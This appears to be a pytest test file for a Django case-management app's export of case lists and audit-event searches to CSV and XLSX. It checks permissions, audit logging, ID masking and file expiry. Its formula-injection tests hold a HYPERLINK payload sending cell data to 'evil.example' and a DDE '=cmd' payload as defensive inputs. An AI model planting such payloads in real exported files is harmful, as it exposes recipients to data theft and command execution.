"""Exports of lists from their pages (item 3 of issue 10): a team lead or an inspector exports the
market's filtered case list and the event-log search to XLSX and CSV; the file holds what the
page shows, nothing in it runs as a formula, only the requester may fetch it, each export is an
event in the log, and an export of a list the user may not see is refused (403) and logged."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from conftest import case_make
from django.core.files.base import ContentFile
from django.test import Client
from django.utils import timezone
from exports_support import (
    export_post,
    file_rows,
    job_last,
    market_make,
    response_bytes,
    staff_make,
    xlsx_cells,
)

from accounts.models import User
from audit.actions import action_label
from audit.models import AuditEvent
from audit.services import TargetRef, event_record
from cases.models import Case, State
from exports.models import ExportJob, ExportState
from exports.services import export_files_purge
from markets.models import Market, Region, Role

pytestmark = pytest.mark.django_db

# Text a spreadsheet would run as a formula, typed as a case's subject.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A2)"]


@pytest.fixture
def cases(officer: User) -> list[Case]:
    """Three cases of Nanning's market: two waiting to be claimed, the third in progress with
    the officer who opened it."""
    first = case_make(officer, subject="第一件")
    second = case_make(officer, subject="第二件")
    third = case_make(officer, subject="第三件")
    Case.objects.filter(pk__in=[first.pk, second.pk]).update(state=State.NEW, owner=None)
    return [first, second, third]


@pytest.fixture
def lead(team_lead: User, verified_client: Callable[[User], Client]) -> Client:
    return verified_client(team_lead)


def _subjects(rows: list[list[Any]]) -> list[str]:
    heading = rows[0]
    column = heading.index("主题")
    return [row[column] for row in rows[1:]]


# --- The market's case list ----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_team_lead_exports_the_filtered_case_list(
    cases: list[Case], nanning_market: Market, team_lead: User, lead: Client, fmt: str
) -> None:
    response = export_post(lead, "cases", fmt, market=nanning_market.pk, state=State.NEW)

    job = job_last()
    assert response.status_code == 302
    assert response["Location"] == f"/exports/{job.pk}/"
    assert (job.requester, job.state, job.rows_done, job.rows_total) == (
        team_lead,
        ExportState.DONE,
        2,
        2,
    )
    rows = file_rows(job)
    assert rows[0][:3] == ["案件编号", "类别", "主题"]  # Chinese headings by default
    assert sorted(_subjects(rows)) == ["第一件", "第二件"]
    assert all(row[4] == "450102********1238" for row in rows[1:])  # the ID number masked


def test_the_case_list_export_follows_the_owner_and_kind_filters(
    cases: list[Case], nanning_market: Market, team_lead: User, lead: Client
) -> None:
    Case.objects.filter(pk=cases[1].pk).update(owner=team_lead)

    export_post(
        lead,
        "cases",
        "csv",
        market=nanning_market.pk,
        owner=team_lead.pk,
        kind="policy_consultation",
    )
    export_post(lead, "cases", "csv", market=nanning_market.pk, kind="career_guidance")

    first, second = ExportJob.objects.order_by("pk")
    assert _subjects(file_rows(first)) == ["第二件"]
    assert _subjects(file_rows(second)) == []


def test_an_export_is_an_event_with_who_which_list_which_filters_and_how_many_rows(
    cases: list[Case], nanning_market: Market, team_lead: User, lead: Client
) -> None:
    export_post(lead, "cases", "xlsx", market=nanning_market.pk, state=State.NEW)

    event = AuditEvent.objects.get(action="export.completed")
    job = job_last()
    assert (event.actor, event.market, event.target_id) == (team_lead, nanning_market, str(job.pk))
    assert event.new_values == {
        "list": "cases",
        "filters": {  # every criterion of the list's filter form, the sort too
            "market_id": nanning_market.pk,
            "state": "new",
            "kind": "",
            "owner_id": None,
            "channel": "",
            "station_id": None,
            "due": "",
            "opened_from": None,
            "opened_to": None,
            "sort": "newest",
        },
        "format": "xlsx",
        "rows": 2,
    }
    assert event.ip_address == "127.0.0.1"


def test_headings_and_labels_follow_the_language_the_export_was_asked_in(
    cases: list[Case], nanning_market: Market, lead: Client
) -> None:
    lead.post("/i18n/setlang/", {"language": "en", "next": "/"})

    export_post(lead, "cases", "csv", market=nanning_market.pk, state=State.IN_PROGRESS)

    rows = file_rows(job_last())
    assert rows[0][:3] == ["Reference", "Kind", "Subject"]
    assert rows[1][1:3] == ["Policy consultation", "第三件"]
    assert rows[1][5] == "In progress"


def test_the_inspector_exports_the_cases_of_a_market_in_their_region(
    cases: list[Case],
    nanning_market: Market,
    inspector: User,
    verified_client: Callable[[User], Client],
) -> None:
    response = export_post(verified_client(inspector), "cases", "csv", market=nanning_market.pk)

    assert response.status_code == 302
    assert len(file_rows(job_last())) == 1 + 3


# --- Formula injection ---------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_subject_that_looks_like_a_formula_is_written_as_text(
    officer: User, nanning_market: Market, lead: Client, fmt: str
) -> None:
    for text in FORMULAS:
        case_make(officer, subject=text)

    export_post(lead, "cases", fmt, market=nanning_market.pk)

    job = job_last()
    assert sorted(_subjects(file_rows(job))) == sorted(f"'{text}" for text in FORMULAS)
    if fmt == "xlsx":
        cells = [cell for row in xlsx_cells(job) for cell in row]
        assert all(cell.data_type != "f" for cell in cells)  # no formula anywhere


def test_an_event_label_that_looks_like_a_formula_is_written_as_text(
    nanning_market: Market, team_lead: User, lead: Client
) -> None:
    event_record(
        action="case.claimed",
        actor=team_lead,
        market=nanning_market,
        target=TargetRef(type="cases.case", id="1", label="=cmd|' /C calc'!A0 450102199003071238"),
    )

    export_post(lead, "audit_events", "xlsx", market=nanning_market.pk, action="case.claimed")

    job = job_last()
    assert file_rows(job)[1][-1] == "'=cmd|' /C calc'!A0 450102********1238"  # masked too
    assert all(cell.data_type != "f" for row in xlsx_cells(job) for cell in row)


# --- The event log -------------------------------------------------------------------------------


def test_the_event_search_export_holds_the_events_the_search_finds(
    cases: list[Case], nanning_market: Market, team_lead: User, lead: Client
) -> None:
    response = export_post(
        lead,
        "audit_events",
        "csv",
        market=nanning_market.pk,
        action="case.opened",
        actor="officer",
    )

    rows = file_rows(job_last())
    assert response.status_code == 302
    assert len(rows) == 1 + 3
    assert {row[3] for row in rows[1:]} == {str(action_label("case.opened"))}
    assert {row[5] for row in rows[1:]} == {"officer"}


# --- Refused and logged --------------------------------------------------------------------------


def _refusals() -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action="export.refused"))


def test_an_officer_may_not_export_the_market_list_refused_and_logged(
    cases: list[Case],
    nanning_market: Market,
    officer: User,
    verified_client: Callable[[User], Client],
) -> None:
    response = export_post(verified_client(officer), "cases", "xlsx", market=nanning_market.pk)

    assert response.status_code == 403
    assert not ExportJob.objects.exists()
    [refusal] = _refusals()
    assert (refusal.actor, refusal.market, refusal.success) == (officer, nanning_market, False)
    assert refusal.new_values["list"] == "cases"
    assert refusal.new_values["filters"]["market_id"] == nanning_market.pk


def test_a_team_lead_may_not_export_another_markets_cases(
    liuzhou: Region, team_lead: User, lead: Client
) -> None:
    other = market_make(liuzhou, "柳州市零工市场")
    case_make(staff_make("liuzhou_officer", Role.OFFICER, market=other), market=other)

    response = export_post(lead, "cases", "csv", market=other.pk)

    assert response.status_code == 403
    assert not ExportJob.objects.exists()
    [refusal] = _refusals()
    assert (refusal.actor, refusal.market) == (team_lead, other)


def test_a_team_lead_may_not_export_another_markets_events(
    liuzhou: Region, team_lead: User, lead: Client
) -> None:
    other = market_make(liuzhou, "柳州市零工市场")

    response = export_post(lead, "audit_events", "xlsx", market=other.pk)

    assert response.status_code == 403
    [refusal] = _refusals()
    assert refusal.new_values["filters"]["market_id"] == other.pk
    assert not ExportJob.objects.exists()


def test_an_officer_may_not_export_the_event_log(
    officer: User, verified_client: Callable[[User], Client]
) -> None:
    response = export_post(verified_client(officer), "audit_events", "csv")

    assert response.status_code == 403
    assert [event.actor for event in _refusals()] == [officer]


def test_filters_that_are_not_understood_export_nothing(
    nanning_market: Market, lead: Client
) -> None:
    response = export_post(lead, "cases", "csv", market=nanning_market.pk, state="nonsense")

    assert response.status_code == 302
    assert response["Location"] == f"/cases/market/{nanning_market.pk}/"
    assert not ExportJob.objects.exists()
    assert not AuditEvent.objects.filter(action__startswith="export.").exists()


def test_an_export_page_answers_a_get_with_405(lead: Client) -> None:
    assert lead.get("/exports/new/").status_code == 405


# --- The file is its requester's alone -----------------------------------------------------------


def test_only_the_requester_downloads_the_file(
    cases: list[Case],
    nanning_market: Market,
    inspector: User,
    lead: Client,
    verified_client: Callable[[User], Client],
) -> None:
    export_post(lead, "cases", "csv", market=nanning_market.pk)
    job = job_last()
    other_lead = staff_make("teamlead2", Role.TEAM_LEAD, market=nanning_market)

    mine = lead.get(f"/exports/{job.pk}/download/")
    assert mine.status_code == 200
    assert mine["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in mine["Content-Disposition"]
    assert response_bytes(mine).decode("utf-8-sig").count("\r\n") == 1 + 3
    for someone in (other_lead, inspector):
        client = verified_client(someone)
        assert client.get(f"/exports/{job.pk}/download/").status_code == 404
        assert client.get(f"/exports/{job.pk}/").status_code == 404
        assert job.pk not in [j.pk for j, _title in client.get("/exports/").context["rows"]]


def test_administrators_reach_no_export_page(
    cases: list[Case],
    nanning_market: Market,
    audit_admin: User,
    lead: Client,
    verified_client: Callable[[User], Client],
) -> None:
    export_post(lead, "cases", "csv", market=nanning_market.pk)
    job = job_last()
    admin = verified_client(audit_admin)

    for url in ("/exports/", f"/exports/{job.pk}/", f"/exports/{job.pk}/download/"):
        assert admin.get(url).status_code == 403, url
    assert export_post(admin, "cases", "csv", market=nanning_market.pk).status_code == 403


def test_the_page_of_a_running_export_shows_its_progress_and_reloads_itself(
    team_lead: User, lead: Client
) -> None:
    job = ExportJob.objects.create(
        requester=team_lead,
        list_name="cases",
        format="xlsx",
        language="zh-hans",
        state=ExportState.RUNNING,
        rows_total=200,
        rows_done=50,
    )

    response = lead.get(f"/exports/{job.pk}/")

    html = response.content.decode()
    assert '<progress id="export-progress" max="100" value="25">' in html
    assert '<meta http-equiv="refresh" content="2">' in html
    assert f"/exports/{job.pk}/download/" not in html
    assert lead.get(f"/exports/{job.pk}/download/").status_code == 404


def test_the_page_of_a_finished_export_links_its_file_and_stops_reloading(
    cases: list[Case], nanning_market: Market, lead: Client
) -> None:
    export_post(lead, "cases", "xlsx", market=nanning_market.pk)
    job = job_last()

    html = lead.get(f"/exports/{job.pk}/").content.decode()

    assert f'href="/exports/{job.pk}/download/"' in html
    assert 'http-equiv="refresh"' not in html
    assert 'value="100"' in html


def test_the_list_pages_offer_the_export_with_their_filters(
    nanning_market: Market, lead: Client
) -> None:
    cases_page = lead.get(f"/cases/market/{nanning_market.pk}/?state=new&page=2").content.decode()
    events_page = lead.get("/audit/events/?action=case.opened").content.decode()

    assert 'action="/exports/new/"' in cases_page
    assert '<input type="hidden" name="state" value="new">' in cases_page
    assert f'<input type="hidden" name="market" value="{nanning_market.pk}">' in cases_page
    assert 'name="page"' not in cases_page.split('action="/exports/new/"')[1].split("</form>")[0]
    assert '<input type="hidden" name="action" value="case.opened">' in events_page


def test_my_exports_page_reads_a_bounded_number_of_queries(
    team_lead: User,
    lead: Client,
    django_assert_max_num_queries: Callable[[int], Any],
) -> None:
    def make(n: int) -> None:
        for _ in range(n):
            ExportJob.objects.create(
                requester=team_lead, list_name="cases", format="csv", language="zh-hans"
            )

    make(2)
    lead.get("/exports/")  # warm the session and the caches
    with django_assert_max_num_queries(12) as few:
        assert lead.get("/exports/").status_code == 200
    make(20)
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert len(lead.get("/exports/").context["rows"]) == 22


# --- Old files -----------------------------------------------------------------------------------


def test_files_older_than_the_kept_days_are_removed(team_lead: User, settings: Any) -> None:
    settings.EXPORT_FILE_DAYS = 7
    now = timezone.now()
    old, recent = (
        ExportJob.objects.create(
            requester=team_lead,
            list_name="cases",
            format="csv",
            language="zh-hans",
            state=ExportState.DONE,
            finished_at=now - timedelta(days=days),
        )
        for days in (8, 6)
    )
    for job in (old, recent):
        job.file.save(f"job-{job.pk}.csv", ContentFile(b"x"), save=True)
    old_path = old.file.path

    assert export_files_purge(now=now) == 1

    old.refresh_from_db()
    recent.refresh_from_db()
    assert (old.state, old.file.name) == (ExportState.EXPIRED, "")
    assert recent.state == ExportState.DONE and recent.file.storage.exists(recent.file.name)
    assert not old.file.storage.exists(old_path)
    assert export_files_purge(now=now) == 0


def test_the_file_holds_what_the_page_shows_under_the_lists_new_filters(
    cases: list[Case], nanning_market: Market, lead: Client
) -> None:
    """Channel, due and opened-between narrow the file as they narrow the page."""
    page = lead.get(f"/cases/market/{nanning_market.pk}/", {"channel": "phone"})
    export_post(lead, "cases", "csv", market=nanning_market.pk, channel="phone")
    all_of_them = export_post(lead, "cases", "csv", market=nanning_market.pk, channel="counter")

    assert page.status_code == 200
    phone = AuditEvent.objects.filter(action="export.completed").order_by("pk")
    assert [event.new_values["filters"]["channel"] for event in phone] == ["phone", "counter"]
    assert [event.new_values["rows"] for event in phone] == [0, len(cases)]
    assert all_of_them.status_code in (200, 302)
    refused = export_post(lead, "cases", "csv", market=nanning_market.pk, due="someday")
    assert refused.status_code in (302, 400)  # a value the list refuses exports nothing
    assert AuditEvent.objects.filter(action="export.completed").count() == 2
